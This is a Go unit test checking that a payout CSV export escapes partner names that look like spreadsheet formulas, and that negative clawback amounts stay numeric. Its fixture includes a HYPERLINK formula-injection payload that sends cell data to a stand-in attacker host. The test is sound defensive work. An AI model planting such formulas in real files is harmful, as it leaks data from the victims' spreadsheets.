package exports_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/dealflow/dealflow/db/dbq"
	"github.com/dealflow/dealflow/internal/exports"
	"github.com/google/uuid"
)

// A partner named like a spreadsheet formula comes out of the payout file
// as text (finding 3: CSV formula injection); a negative net, a clawback,
// stays a number in both amount columns.
func TestPayoutFileNeutralisesFormulas(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?d="&A1,"Open")`
	c := dbq.CycleGetRow{ID: uuid.New(), ProgramCode: "rebate-q4", PeriodStart: time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC),
		PeriodEnd: time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)}
	rows := []dbq.CyclePayoutsRow{
		{ID: uuid.New(), PartnerID: uuid.New(), PartnerName: evil, Amount: 1400, Currency: "USD", Status: "payable", Lines: 1},
		{ID: uuid.New(), PartnerID: uuid.New(), PartnerName: "@Contoso", Amount: -197000, Currency: "USD", Status: "nothing_due", Lines: 2},
	}
	var buf bytes.Buffer
	if err := exports.Payouts(&buf, c, rows); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 {
		t.Fatalf("payout file:\n%s", buf.String())
	}
	name, minor, amount := 6, 7, 8
	if got[1][name] != "'"+evil || got[2][name] != "'@Contoso" {
		t.Errorf("partner names %q, %q: want them as text", got[1][name], got[2][name])
	}
	if got[2][minor] != "-197000" || got[2][amount] != "-1970.00" {
		t.Errorf("clawback amounts %q, %q: want numbers", got[2][minor], got[2][amount])
	}
}
